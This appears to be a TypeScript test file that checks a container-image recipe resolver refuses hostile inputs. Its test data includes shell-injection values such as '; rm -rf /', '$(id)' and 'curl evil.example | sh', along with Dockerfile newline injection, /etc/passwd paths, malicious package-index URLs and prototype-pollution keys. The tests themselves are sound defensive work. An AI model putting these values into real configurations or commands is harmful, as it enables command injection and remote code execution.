import { SlimDaskError, show } from "../../../components/common/errors";
import { resolveRecipe } from "../../../components/image/recipe";
import type { ImageRecipe, ImageRecipeConfig } from "../../../components/image/recipe-types";

/**
 * Hostile inputs: every one must be refused with a SlimDaskError that names the field and
 * quotes the value, never a crash (TypeError) and never a silent pass into a Dockerfile.
 */

/** Where a value goes: a config builder and the field path the error must name. */
interface Slot {
  field: string;
  put: (value: unknown) => unknown;
}

const slot = (field: string, put: (value: unknown) => unknown): Slot => ({ field, put });

/** One slot per string-valued place in a recipe. */
const SLOTS: Record<string, Slot> = {
  packages: slot("packages[1]", (v) => ({ packages: ["numpy", v] })),
  pipPackages: slot("pipPackages[0]", (v) => ({ base: "pip", pipPackages: [v] })),
  channels: slot("channels[1]", (v) => ({ channels: ["conda-forge", v] })),
  envValue: slot("env.DASK_X", (v) => ({ env: { DASK_X: v } })),
  envName: slot("env", (v) => ({ env: { [v as string]: "1" } })),
  labelValue: slot("labels.team", (v) => ({ labels: { team: v } })),
  labelKey: slot("labels", (v) => ({ labels: { [v as string]: "x" } })),
  userName: slot("user.name", (v) => ({ user: { name: v } })),
  platform: slot("platform", (v) => ({ platform: v })),
  baseImage: slot("baseImage", (v) => ({ baseImage: v })),
  runtimeImage: slot("runtimeImage", (v) => ({ runtimeImage: v })),
  python: slot("python", (v) => ({ python: v })),
  dask: slot("dask", (v) => ({ dask: v })),
  daskExtras: slot("daskExtras[0]", (v) => ({ base: "pip", daskExtras: [v] })),
  bytecode: slot("bytecode", (v) => ({ bytecode: v })),
  base: slot("base", (v) => ({ base: v })),
  wheelhouse: slot("wheelhouse", (v) => ({ base: "pip", wheelhouse: v })),
};

/**
 * Strings refused by every string field, even the permissive ones (env/label values allow
 * inner spaces, the wheelhouse allows `../`): each carries a shell metacharacter, a quote,
 * a control character, an invisible or non-ASCII character, or is far too long.
 */
const EVERYWHERE: string[] = [
  "; rm -rf /",
  "$(id)",
  "`id`",
  "x && curl evil.example | sh",
  "x || true",
  "x;id",
  "a|b",
  "a&b",
  "a'b",
  "it's",
  'say "hi"',
  "a\nRUN id",
  "a\rb",
  "a\u0000b",
  "a\tb",
  "a\u00a0b",
  "a\u2028b",
  "a\u200bb",
  "\ufeffa",
  "d\u0430sk", // Cyrillic a
  "x > /etc/passwd",
  "${HOME}",
  "a\\b",
  "(x)",
  " leading",
  "trailing ",
  "a".repeat(5000),
];

/** Extra hostile strings for one slot: valid elsewhere, wrong here. */
const PER_SLOT: Record<string, string[]> = {
  packages: [
    "",
    "../etc/passwd",
    "--index-url=https://evil.example",
    "-c http://evil.example",
    "--override-channels",
    "numpy 1.26",
    "numpy[version='>=1.26']",
    "NumPy",
    "numpy=",
    "numpy>=1.26,",
    "http://evil.example/x.tar.bz2",
    "file:///tmp/x.conda",
    "./local.tar.bz2",
    "numpy::",
    "python=3.11",
    "distributed",
  ],
  pipPackages: [
    "",
    "--index-url=https://evil.example/simple",
    "-e .",
    "-r requirements.txt",
    "git+https://github.com/x/y",
    "pkg@https://evil.example/x.whl",
    "pkg;python_version<'3.8'",
    "pkg==1.0--hash=sha256:00",
    "../x",
    "_pkg",
    "pkg-",
    "pkg[",
    "pkg[]",
    "pkg>=",
    "dask==2024.1.0",
    "Distributed",
  ],
  channels: [
    "",
    "file:///srv/channel",
    "http://evil.example/channel",
    "HTTP://evil.example/channel",
    "https://user:pass@evil.example/channel",
    "https://evil.example/channel?token=x",
    "https://evil.example/../etc",
    "https://",
    "ftp://evil.example/ch",
    "s3://bucket/ch",
    "-c",
    "--override-channels",
    "conda forge",
    "Conda-Forge",
  ],
  envName: [
    "",
    "1ABC",
    "A-B",
    "A B",
    "A=B",
    "__proto__",
    "constructor",
    "prototype",
    "PATH",
    "PYTHONDONTWRITEBYTECODE",
  ],
  labelKey: [
    "",
    "Org.Example",
    "com.docker.compose.project",
    "io.docker.x",
    "org.dockerproject.x",
    "a..b",
    "a.-b",
    "-a",
    "a-",
    "a/b",
    "constructor",
    "__proto__",
  ],
  userName: ["", "root", "Dask", "1dask", "d".repeat(33), "da sk", "-dask"],
  platform: ["", "linux/386", "windows/amd64", "LINUX/AMD64", "linux/amd64 ", "linux/arm/v7"],
  baseImage: [
    "",
    "Debian:12",
    "debian:bookworm slim",
    "--privileged",
    "debian@sha256:abc",
    "debian:$(id)",
    "debian:-x",
    "../debian",
  ],
  runtimeImage: ["", "UPPER/case", "debian:bookworm\nRUN id"],
  python: ["", "3", "3.12.1", "3.8", "3.15", "2.7", "3.x", ">=3.12", "03.12", "3.012"],
  dask: ["", "latest", "2026.8", "v2026.8.0", "2026.13.0", ">=2026.8.0", "2026.08.0", "1.2.3"],
  daskExtras: ["", "test", "COMPLETE", "complete,array", "all"],
  bytecode: ["", "Delete", "none", "pyc"],
  base: ["", "alpine", "Micromamba", "conda"],
  wheelhouse: ["", "--find-links=https://evil.example", "-rf", "~user/$(id)"],
};

/** Values of the wrong type: none is a string, so none may reach a string check unguarded. */
const WRONG_TYPES: unknown[] = [
  null,
  0,
  -1,
  NaN,
  true,
  [],
  ["numpy"],
  {},
  { toString: () => "numpy" },
];

interface Row {
  name: string;
  config: unknown;
  field: string;
  /** The offending string, which the message must quote; undefined for non-strings. */
  value?: string;
}

function stringRows(): Row[] {
  const rows: Row[] = [];
  for (const [slotName, s] of Object.entries(SLOTS)) {
    // Map keys are checked by the key grammar; very long keys are just as refused.
    const strings = [...EVERYWHERE, ...(PER_SLOT[slotName] ?? [])];
    for (const value of strings) {
      const field =
        slotName === "envName" && ["PATH", "PYTHONDONTWRITEBYTECODE"].includes(value)
          ? `env.${value}`
          : s.field;
      rows.push({
        name: `${slotName} = ${show(value.slice(0, 30))}`,
        config: s.put(value),
        field,
        value,
      });
    }
  }
  return rows;
}

function typeRows(): Row[] {
  const rows: Row[] = [];
  for (const [slotName, s] of Object.entries(SLOTS)) {
    if (slotName === "envName" || slotName === "labelKey") continue; // keys are always strings
    for (const value of WRONG_TYPES) {
      rows.push({
        name: `${slotName} = ${String(show(value))}`,
        config: s.put(value),
        field: s.field,
      });
    }
  }
  return rows;
}

/** Hand-picked rows for the numeric and structural fields. */
const SPECIAL: Row[] = [
  { name: "uid 0 (root)", config: { user: { uid: 0 } }, field: "user.uid" },
  { name: "gid 0 (root)", config: { user: { gid: 0 } }, field: "user.gid" },
  { name: "negative uid", config: { user: { uid: -1 } }, field: "user.uid" },
  { name: "float uid", config: { user: { uid: 1000.5 } }, field: "user.uid" },
  { name: "uid 2^31-1", config: { user: { uid: 2147483647 } }, field: "user.uid" },
  { name: "huge uid", config: { user: { uid: 1e20 } }, field: "user.uid" },
  { name: "NaN gid", config: { user: { gid: NaN } }, field: "user.gid" },
  { name: "infinite gid", config: { user: { gid: Infinity } }, field: "user.gid" },
  { name: "bigint uid", config: { user: { uid: BigInt(1000) } }, field: "user.uid" },
  { name: "string uid", config: { user: { uid: "1000" } }, field: "user.uid", value: "1000" },
  {
    name: "uid with shell",
    config: { user: { uid: "1000;id" } },
    field: "user.uid",
    value: "1000;id",
  },
  {
    name: "user __proto__ key",
    config: JSON.parse('{"user":{"__proto__":{"uid":0}}}'),
    field: "user.__proto__",
  },
  {
    name: "env __proto__ (own key)",
    config: { env: JSON.parse('{"__proto__":"x"}') },
    field: "env",
    value: "__proto__",
  },
  {
    name: "labels constructor",
    config: { labels: { constructor: "x" } },
    field: "labels",
    value: "constructor",
  },
  {
    name: "top-level __proto__",
    config: JSON.parse('{"__proto__":{"base":"pip"}}'),
    field: "__proto__",
  },
  { name: "top-level typo", config: { optimisations: {} }, field: "optimisations" },
  { name: "top-level shell key", config: { "$(id)": 1 }, field: '["$(id)"]', value: "$(id)" },
  { name: "top-level key with an escape", config: { "a\u001b[2Jb": 1 }, field: '["a\\u001b[2Jb"]' },
  {
    name: "switch key with a newline",
    config: { optimizations: { "nomkl\n": true } },
    field: 'optimizations["nomkl\\n"]',
  },
  {
    name: "too many packages",
    config: { packages: Array.from({ length: 501 }, (_, i) => `p${i}`) },
    field: "packages",
  },
  {
    name: "too many env keys",
    config: { env: Object.fromEntries(Array.from({ length: 501 }, (_, i) => [`V${i}`, "1"])) },
    field: "env",
  },
  {
    name: "seed dask with a v",
    config: { base: "seed", dask: "v1.2.2" },
    field: "dask",
    value: "v1.2.2",
  },
  {
    name: "unknown switch",
    config: { optimizations: { nomkl2: true } },
    field: "optimizations.nomkl2",
  },
  {
    name: "switch as string",
    config: { optimizations: { nomkl: "yes" } },
    field: "optimizations.nomkl",
    value: "yes",
  },
  {
    name: "switch as null",
    config: { optimizations: { tini: null } },
    field: "optimizations.tini",
  },
  {
    name: "optimizations as string",
    config: { optimizations: "all" },
    field: "optimizations",
    value: "all",
  },
  { name: "env as a list", config: { env: ["A=1"] }, field: "env" },
  { name: "env as a Map", config: { env: new Map([["A", "1"]]) }, field: "env" },
  { name: "labels as null", config: { labels: null }, field: "labels" },
  { name: "packages as a string", config: { packages: "dask" }, field: "packages" },
  {
    name: "packages as an object",
    config: { packages: { 0: "dask", length: 1 } },
    field: "packages",
  },
  { name: "nested list in packages", config: { packages: [["numpy"]] }, field: "packages[0]" },
  { name: "wheelhouse on a conda preset", config: { wheelhouse: "./wheels" }, field: "wheelhouse" },
  { name: "config is a number", config: 42, field: "config" },
  { name: "config is a function", config: () => ({}), field: "config" },
];

const ROWS: Row[] = [...stringRows(), ...typeRows(), ...SPECIAL];

/** The quoted value the message must contain; long values are shown by their start. */
function quoted(value: string): string {
  const shown = value.length > 256 ? show(value.slice(0, 40)) : show(value);
  return shown;
}

describe("hostile inputs", () => {
  it("has a corpus of at least 120 rows covering every field", () => {
    expect(ROWS.length).toBeGreaterThanOrEqual(120);
    const fields = new Set(ROWS.map((r) => r.field.replace(/\[\d+\]|\..*$/g, "")));
    for (const f of [
      "packages",
      "pipPackages",
      "channels",
      "env",
      "labels",
      "user",
      "platform",
      "baseImage",
      "runtimeImage",
      "python",
      "dask",
      "daskExtras",
      "bytecode",
      "base",
      "wheelhouse",
      "optimizations",
      "config",
    ]) {
      expect(fields).toContain(f);
    }
  });

  it.each(ROWS.map((r) => [r.name, r] as const))("refuses %s", (_name, row) => {
    let thrown: unknown;
    try {
      resolveRecipe(row.config as ImageRecipeConfig);
    } catch (e) {
      thrown = e;
    }
    expect(thrown).toBeInstanceOf(SlimDaskError);
    expect(thrown).not.toBeInstanceOf(TypeError);
    const e = thrown as SlimDaskError;
    expect(e.field).toBe(row.field);
    expect(e.message.startsWith(`${row.field}: `)).toBe(true);
    expect(e.fix.length).toBeGreaterThan(10);
    if (row.value !== undefined) expect(e.message).toContain(quoted(row.value));
  });
});

describe("weird types never crash", () => {
  const weird: unknown[] = [
    undefined,
    null,
    0,
    NaN,
    -0,
    BigInt(7),
    Symbol("s"),
    () => 1,
    true,
    "",
    [],
    [null],
    [{}],
    {},
    { a: { b: [] } },
    new Date(0),
    Object.create(null),
  ];
  const paths: ((v: unknown) => unknown)[] = [
    (v) => v,
    // Map-key slots are left out: JavaScript turns any key into a string before we see it.
    ...Object.entries(SLOTS)
      .filter(([name]) => name !== "envName" && name !== "labelKey")
      .map(([, s]) => s.put),
    (v) => ({ optimizations: { nomkl: v } }),
    (v) => ({ optimizations: v }),
    (v) => ({ user: v }),
    (v) => ({ user: { uid: v } }),
    (v) => ({ env: v }),
    (v) => ({ labels: v }),
    (v) => ({ packages: v }),
    (v) => ({ base: "pip", pipPackages: v }),
    (v) => ({ channels: v }),
    (v) => ({ base: "pip", daskExtras: v }),
  ];

  it("either resolves or throws a SlimDaskError, for every field and odd value", () => {
    let thrownCount = 0;
    for (const put of paths) {
      for (const value of weird) {
        try {
          resolveRecipe(put(value) as ImageRecipeConfig);
        } catch (e) {
          thrownCount++;
          if (!(e instanceof SlimDaskError)) {
            throw new Error(`${String(e)} for ${String(show(put(value)))}`);
          }
        }
      }
    }
    // Most of these are wrong; the sweep is only meaningful if they were actually refused.
    expect(thrownCount).toBeGreaterThan(paths.length * weird.length * 0.8);
  });
});

describe("valid tricky inputs pass unchanged", () => {
  const cases: [string, ImageRecipeConfig, (r: ImageRecipe) => unknown, unknown][] = [
    ["conda range", { packages: ["numpy>=1.26,<2"] }, (r) => r.packages, ["numpy>=1.26,<2"]],
    ["conda glob", { packages: ["pyarrow=16.*"] }, (r) => r.packages, ["pyarrow=16.*"]],
    [
      "conda channel::name",
      { packages: ["conda-forge::lz4"] },
      (r) => r.packages,
      ["conda-forge::lz4"],
    ],
    [
      "conda alternatives",
      { packages: ["numpy==1.26.4|1.26.3"] },
      (r) => r.packages,
      ["numpy==1.26.4|1.26.3"],
    ],
    [
      "conda underscore name",
      { packages: ["_libgcc_mutex"] },
      (r) => r.packages,
      ["_libgcc_mutex"],
    ],
    ["conda r-base", { packages: ["r-base>=4.3"] }, (r) => r.packages, ["r-base>=4.3"]],
    [
      "pip extras and range",
      { base: "pip", pipPackages: ["dask-ml[complete]>=2024.4,<2026"] },
      (r) => r.pipPackages,
      ["dask-ml[complete]>=2024.4,<2026"],
    ],
    [
      "pip dotted name",
      { base: "pip", pipPackages: ["zope.interface"] },
      (r) => r.pipPackages,
      ["zope.interface"],
    ],
    [
      "pip compatible release",
      { base: "pip", pipPackages: ["Pillow~=10.0"] },
      (r) => r.pipPackages,
      ["Pillow~=10.0"],
    ],
    [
      "pip local version",
      { base: "pip", pipPackages: ["pkg===1.0+local"] },
      (r) => r.pipPackages,
      ["pkg===1.0+local"],
    ],
    ["pip one-letter name", { base: "pip", pipPackages: ["a"] }, (r) => r.pipPackages, ["a"]],
    [
      "https channel with port",
      { channels: ["https://repo.example.com:8443/conda/main/"] },
      (r) => r.channels,
      ["https://repo.example.com:8443/conda/main/"],
    ],
    [
      "env URL value",
      { env: { DASK_SCHEDULER_ADDRESS: "tcp://scheduler:8786" } },
      (r) => r.env,
      { DASK_SCHEDULER_ADDRESS: "tcp://scheduler:8786" },
    ],
    [
      "env value with inner spaces and =",
      { env: { OPTS: "a=b, c=d" } },
      (r) => r.env.OPTS,
      "a=b, c=d",
    ],
    ["env empty value", { env: { EMPTY: "" } }, (r) => r.env.EMPTY, ""],
    ["env value with % and @", { env: { X: "50%@host" } }, (r) => r.env.X, "50%@host"],
    ["lowercase env name", { env: { _lower1: "x" } }, (r) => r.env._lower1, "x"],
    [
      "OCI label",
      { labels: { "org.opencontainers.image.source": "https://github.com/x/y" } },
      (r) => r.labels,
      { "org.opencontainers.image.source": "https://github.com/x/y" },
    ],
    [
      "largest uid",
      { user: { uid: 2147483646, gid: 1 } },
      (r) => r.user,
      { uid: 2147483646, gid: 1, name: "dask" },
    ],
    [
      "32-character user name",
      { user: { name: `_svc-${"x".repeat(27)}` } },
      (r) => r.user.name,
      `_svc-${"x".repeat(27)}`,
    ],
    ["arm64/v8", { platform: "linux/arm64/v8" }, (r) => r.platform, "linux/arm64/v8"],
    [
      "image with registry port and digest",
      { baseImage: `registry.example.com:5000/team/micromamba:2.5.0@sha256:${"a".repeat(64)}` },
      (r) => r.baseImage,
      `registry.example.com:5000/team/micromamba:2.5.0@sha256:${"a".repeat(64)}`,
    ],
    [
      "oldest python with a dask that still supports it",
      { python: "3.9", dask: "2024.8.0" },
      (r) => r.python,
      "3.9",
    ],
    ["newest python", { python: "3.14" }, (r) => r.python, "3.14"],
    ["two-digit month and patch", { dask: "2026.12.10" }, (r) => r.dask, "2026.12.10"],
    [
      "relative wheelhouse",
      { base: "pip", wheelhouse: "../shared/wheels" },
      (r) => r.wheelhouse,
      "../shared/wheels",
    ],
    [
      "wheelhouse with an inner space",
      { base: "pip", wheelhouse: "/var/tmp/slim dask/wheels" },
      (r) => r.wheelhouse,
      "/var/tmp/slim dask/wheels",
    ],
  ];
  it.each(cases)("accepts %s", (_name, config, pick, expected) => {
    expect(pick(resolveRecipe(config))).toEqual(expected);
  });
});
